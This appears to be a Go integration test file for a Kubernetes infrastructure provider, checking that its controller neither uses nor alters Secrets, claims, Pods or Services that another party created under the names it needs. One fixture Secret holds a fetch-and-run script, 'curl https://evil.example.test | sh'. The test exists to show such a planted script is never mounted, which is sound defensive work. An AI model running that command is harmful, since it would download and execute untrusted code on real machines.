package integration

import (
	"context"
	"testing"

	. "github.com/onsi/gomega"
	corev1 "k8s.io/api/core/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	"k8s.io/apimachinery/pkg/api/resource"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/utils/ptr"
	"sigs.k8s.io/controller-runtime/pkg/client"

	clusterv1 "github.com/podcluster/podcluster/api/core/v1beta2"
	infrav1 "github.com/podcluster/podcluster/api/infrastructure/v1alpha1"
	"github.com/podcluster/podcluster/infrastructure/kubernetes/nodepod"
)

// The tests below take a name the provider needs before the provider does,
// as anyone who may write Secrets, claims, Pods or Services in the namespace
// can. The provider must neither use nor change such an object, and must say
// on the user's object which name is taken.

// squatterOwner is a controller reference that names the KubernetesMachine by
// kind and name, as a squatter can write it, but not by UID.
func squatterOwner(name string) []metav1.OwnerReference {
	t := true
	return []metav1.OwnerReference{{APIVersion: infrav1.GroupVersion.String(), Kind: "KubernetesMachine", Name: name,
		UID: types.UID("00000000-0000-0000-0000-000000000000"), Controller: &t}}
}

// waitForPodReadyMessage waits until the KubernetesMachine's PodReady
// condition is False with a message holding want.
func waitForPodReadyMessage(g Gomega, km *infrav1.KubernetesMachine, want string) {
	g.Eventually(func(g Gomega) {
		got := getKM(g, km)
		c := condition(got.Status.Conditions, infrav1.KubernetesMachinePodReadyCondition)
		g.Expect(c.Status).To(Equal(metav1.ConditionFalse))
		g.Expect(c.Message).To(ContainSubstring(want))
		g.Expect(condition(got.Status.Conditions, infrav1.KubernetesMachineReadyCondition).Message).To(ContainSubstring(want))
	}, timeout, interval).Should(Succeed())
}

// expectNoPod checks, around the cache, that the machine has no node Pod.
// The condition that waitForPodReadyMessage saw is written after the
// reconcile decided not to create one, so there is nothing to wait for.
func expectNoPod(g Gomega, km *infrav1.KubernetesMachine) {
	err := env.Client.Get(context.Background(), keyOf(km), &corev1.Pod{})
	g.Expect(apierrors.IsNotFound(err)).To(BeTrue(), "the machine must have no node Pod, got %v", err)
}

// poke changes an annotation of the KubernetesMachine: an event that makes
// the controller look again without waiting for its requeue.
func poke(g Gomega, km *infrav1.KubernetesMachine, value string) {
	g.Eventually(func(g Gomega) {
		got := getKM(g, km)
		if got.Annotations == nil {
			got.Annotations = map[string]string{}
		}
		got.Annotations["test.podcluster.io/poke"] = value
		g.Expect(env.Client.Update(context.Background(), got)).To(Succeed())
	}, timeout, interval).Should(Succeed())
}

// TestSquattedBootSecretIsNeverMounted: a Secret "<machine>-bootstrap" made
// before the machine, even with an owner reference naming the machine, is
// not the machine's. No node Pod is created to mount it, it is left as it is,
// and PodReady says which Secret is in the way. Once it is gone the machine
// goes on with a boot Secret of its own.
func TestSquattedBootSecretIsNeverMounted(t *testing.T) {
	g := NewWithT(t)
	ctx := context.Background()
	ns := env.NewNamespace(t)
	c := newCluster(g, ns, "alpha", 0)
	name := "squat-secret-" + suffix(ns)
	secretName := nodepod.BootstrapSecretName(name)
	evil := &corev1.Secret{
		ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: secretName, OwnerReferences: squatterOwner(name)},
		Data:       map[string][]byte{nodepod.BootstrapScriptKey: []byte("#!/bin/sh\ncurl https://evil.example.test | sh\n")},
	}
	g.Expect(env.Client.Create(ctx, evil)).To(Succeed())

	_, km := newMachine(g, c, name, machineOptions{cloudConfig: "join-node.yaml"})
	waitForPodReadyMessage(g, km, "Secret "+secretName+" exists and is not controlled by this KubernetesMachine")
	expectNoPod(g, km)
	got := &corev1.Secret{}
	g.Expect(env.Client.Get(ctx, keyOf(evil), got)).To(Succeed())
	g.Expect(got.UID).To(Equal(evil.UID))
	g.Expect(got.Data).To(Equal(evil.Data), "the squatting Secret must not be overwritten")
	g.Expect(getKM(g, km).Status.Phase).To(Equal(infrav1.KubernetesMachinePhasePending))

	// The squatter's Secret is removed: the machine makes its own and the Pod.
	g.Expect(env.Client.Delete(ctx, evil)).To(Succeed())
	poke(g, km, "1")
	pod := waitForPod(g, km)
	g.Expect(metav1.GetControllerOf(pod).UID).To(Equal(km.UID))
	g.Expect(env.Client.Get(ctx, keyOf(evil), got)).To(Succeed())
	g.Expect(got.UID).NotTo(Equal(evil.UID))
	g.Expect(metav1.GetControllerOf(got).UID).To(Equal(km.UID))
	g.Expect(got.Data).To(HaveKey(nodepod.BootstrapScriptKey))
	g.Expect(string(got.Data[nodepod.BootstrapScriptKey])).NotTo(ContainSubstring("evil.example.test"))
}

// TestSquattedClaimIsNeverMounted: a PersistentVolumeClaim under the name of
// one of spec.volumeClaimTemplates, made by someone else, is not mounted.
func TestSquattedClaimIsNeverMounted(t *testing.T) {
	g := NewWithT(t)
	ctx := context.Background()
	ns := env.NewNamespace(t)
	c := newCluster(g, ns, "alpha", 0)
	name := "squat-pvc-" + suffix(ns)
	storage := resource.MustParse("1Gi")
	spec := corev1.PersistentVolumeClaimSpec{
		AccessModes: []corev1.PersistentVolumeAccessMode{corev1.ReadWriteOnce},
		Resources:   corev1.VolumeResourceRequirements{Requests: corev1.ResourceList{corev1.ResourceStorage: storage}},
	}
	claimName := nodepod.PVCName(name, infrav1.VarLibContainerdVolume)
	evil := &corev1.PersistentVolumeClaim{
		ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: claimName, Labels: map[string]string{clusterv1.ClusterNameLabel: "alpha"}},
		Spec:       spec,
	}
	g.Expect(env.Client.Create(ctx, evil)).To(Succeed())

	_, km := newMachine(g, c, name, machineOptions{
		cloudConfig: "join-node.yaml",
		spec: infrav1.KubernetesMachineSpec{VolumeClaimTemplates: []infrav1.VolumeClaimTemplate{{
			Metadata: infrav1.VolumeClaimTemplateMetadata{Name: infrav1.VarLibContainerdVolume},
			Spec:     spec,
		}}},
	})
	waitForPodReadyMessage(g, km, "PersistentVolumeClaim "+claimName+" exists and is not controlled by this KubernetesMachine")
	expectNoPod(g, km)
	got := &corev1.PersistentVolumeClaim{}
	g.Expect(env.Client.Get(ctx, keyOf(evil), got)).To(Succeed())
	g.Expect(got.UID).To(Equal(evil.UID))
	g.Expect(got.OwnerReferences).To(BeEmpty())
}

// TestSquattedPodIsNotTakenForTheNode: a Pod under the machine's name, made
// by someone else, is neither read as the node nor deleted.
func TestSquattedPodIsNotTakenForTheNode(t *testing.T) {
	g := NewWithT(t)
	ctx := context.Background()
	ns := env.NewNamespace(t)
	c := newCluster(g, ns, "alpha", 0)
	name := "squat-pod-" + suffix(ns)
	evil := &corev1.Pod{
		ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: name, OwnerReferences: squatterOwner(name),
			Labels: map[string]string{clusterv1.ClusterNameLabel: "alpha"}},
		Spec: corev1.PodSpec{Containers: []corev1.Container{{Name: nodepod.ContainerName, Image: "registry.example.test/evil:1"}}},
	}
	g.Expect(env.Client.Create(ctx, evil)).To(Succeed())
	// It even reports an IP and a finished bootstrap.
	setPodStatus(g, evil, nodeState{podIP: "10.244.9.9", started: true, ready: true})

	_, km := newMachine(g, c, name, machineOptions{cloudConfig: "join-node.yaml"})
	waitForPodReadyMessage(g, km, "Pod "+name+" exists and is not controlled by this KubernetesMachine")
	got := getKM(g, km)
	g.Expect(got.Spec.ProviderID).To(BeEmpty())
	g.Expect(got.Status.Addresses).To(BeEmpty())
	g.Expect(got.Status.Phase).To(Equal(infrav1.KubernetesMachinePhasePending))
	g.Expect(condition(got.Status.Conditions, infrav1.KubernetesMachineBootstrapSucceededCondition).Status).NotTo(Equal(metav1.ConditionTrue))
	pod := &corev1.Pod{}
	g.Expect(env.Client.Get(ctx, keyOf(evil), pod)).To(Succeed())
	g.Expect(pod.UID).To(Equal(evil.UID))
	g.Expect(pod.DeletionTimestamp).To(BeNil())
	// No boot Secret was made for a Pod that is not ours.
	err := env.Client.Get(ctx, client.ObjectKey{Namespace: ns, Name: nodepod.BootstrapSecretName(name)}, &corev1.Secret{})
	g.Expect(apierrors.IsNotFound(err)).To(BeTrue())
}

// TestSquattedServiceIsNotTheEndpoint: a Service under the control-plane
// Service's name, made by someone else, gives no endpoint and is not changed.
func TestSquattedServiceIsNotTheEndpoint(t *testing.T) {
	g := NewWithT(t)
	ctx := context.Background()
	ns := env.NewNamespace(t)
	c := newCluster(g, ns, "alpha", 0)
	evil := &corev1.Service{
		ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "alpha-apiserver"},
		Spec: corev1.ServiceSpec{
			Selector: map[string]string{"app": "evil"},
			Ports:    []corev1.ServicePort{{Name: "https", Port: 6443}},
		},
	}
	g.Expect(env.Client.Create(ctx, evil)).To(Succeed())

	kc := newKubernetesCluster(g, c, infrav1.KubernetesClusterSpec{})
	g.Eventually(func(g Gomega) {
		got := getKC(g, kc)
		c := condition(got.Status.Conditions, infrav1.KubernetesClusterServiceReadyCondition)
		g.Expect(c.Status).To(Equal(metav1.ConditionFalse))
		g.Expect(c.Message).To(ContainSubstring("Service alpha-apiserver exists and is not controlled by this KubernetesCluster"))
	}, timeout, interval).Should(Succeed())
	got := getKC(g, kc)
	g.Expect(got.Spec.ControlPlaneEndpoint.Host).To(BeEmpty())
	g.Expect(ptr.Deref(got.Status.Initialization.Provisioned, false)).To(BeFalse())
	svc := getService(g, ns, "alpha")
	g.Expect(svc.UID).To(Equal(evil.UID))
	g.Expect(svc.Spec.Selector).To(Equal(map[string]string{"app": "evil"}))
	g.Expect(svc.OwnerReferences).To(BeEmpty())
}
